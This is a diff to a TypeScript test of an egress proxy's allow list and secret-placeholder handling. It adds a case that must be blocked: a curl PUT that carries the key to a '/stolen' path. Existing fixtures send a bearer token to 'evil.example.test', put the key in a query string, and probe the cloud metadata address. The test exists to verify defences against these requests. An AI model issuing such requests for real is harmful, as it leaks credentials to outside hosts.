@@ -11,7 +11,7 @@ const hosts = ['api.example.test', 'listed.example.test', 'unlisted.example.test
 const ask = (url: string, ...options: string[]) => `curl -sS -o /dev/null -w '%{http_code} ${url}\\n' ${options.join(' ')} ${url} || echo "000 ${url}"`;
 const script = [
   ask('https://api.example.test/v1/chat', '-d', 'x', '-H', '"authorization: Bearer $KEY"'),
-  ask('https://listed.example.test/a'), ask('https://listed.example.test/b', '-X', 'POST'),
+  ask('https://listed.example.test/a'), ask('https://listed.example.test/stolen', '-X', 'PUT', '-H', '"x-key: $KEY"'), ask('https://listed.example.test/b', '-X', 'POST'),
   ask('https://unlisted.example.test/items/17'), ask('https://unlisted.example.test/items/18'),
   // What is no matter of the allow list.
   ask('https://evil.example.test/take', '-H', '"authorization: Bearer $KEY"'), ask('https://unlisted.example.test/?k=$KEY'),
@@ -28,7 +28,11 @@ test('the allow list blocks nothing and all is told; secrets, private addresses 
 
   // The control: what enforce mode makes of the same.
   const enforced = await runDecoy(args, options);
-  expect(statuses(enforced.stdout)).toMatchObject({ 'https://listed.example.test/a': '200', 'https://listed.example.test/b': '403', 'https://unlisted.example.test/items/17': '000' });
+  expect(statuses(enforced.stdout)).toMatchObject({ 'https://listed.example.test/a': '200', 'https://listed.example.test/b': '403', 'https://listed.example.test/stolen': '403', 'https://unlisted.example.test/items/17': '000' });
+  // A rule for what would have taken the placeholder along is not among what the report would have allowed.
+  expect(enforced.report!.blocked.find(({ path: of }) => of === '/stolen')).toMatchObject({ reason: 'method-not-allowed' });
+  expect(enforced.report!.requests!.map(({ path: of }) => of)).toEqual(expect.arrayContaining(['/a', '/b']));
+  expect(JSON.stringify(enforced.report!.requests)).not.toContain('/stolen');
   expect(enforced.report).not.toHaveProperty('mode');
   expect(enforced.stderr).not.toContain('OBSERVE');
   upstream.received.length = 0;
@@ -38,14 +42,14 @@ test('the allow list blocks nothing and all is told; secrets, private addresses 
   expect(statuses(end.stdout)).toEqual({
     'https://api.example.test/v1/chat': '200', 'https://listed.example.test/a': '200', 'https://listed.example.test/b': '200',
     'https://unlisted.example.test/items/17': '200', 'https://unlisted.example.test/items/18': '200',
-    'https://evil.example.test/take': '403', 'https://unlisted.example.test/?k=$KEY': '403',
+    'https://listed.example.test/stolen': '403', 'https://evil.example.test/take': '403', 'https://unlisted.example.test/?k=$KEY': '403',
     [`https://${os.hostname()}/`]: '403', 'http://unlisted.example.test:443/': '403', 'http://169.254.169.254/latest': '000',
   });
   expect(upstream.received.map(({ host, url }) => host + url)).toEqual([
     'api.example.test/v1/chat', 'listed.example.test/a', 'listed.example.test/b', 'unlisted.example.test/items/17', 'unlisted.example.test/items/18',
   ]);
   expect(upstream.received.filter(({ headers }) => headers.includes(`Bearer ${SECRET}`)).map(({ host }) => host)).toEqual(['api.example.test']);
-  expect(end.report!.blocked.map(({ reason }) => reason).sort()).toEqual(['host-not-allowed', 'placeholder-wrong-host', 'placeholder-wrong-host', 'private-address']);
+  expect(end.report!.blocked.map(({ reason }) => reason).sort()).toEqual(['host-not-allowed', 'placeholder-wrong-host', 'placeholder-wrong-host', 'placeholder-wrong-host', 'private-address']);
   expect(end.report!.observed!.map(({ host, reason, count }) => [host, reason, count])).toEqual([
     ['unlisted.example.test', 'host-not-allowed', 2], ['listed.example.test', 'method-not-allowed', 1],
   ]);
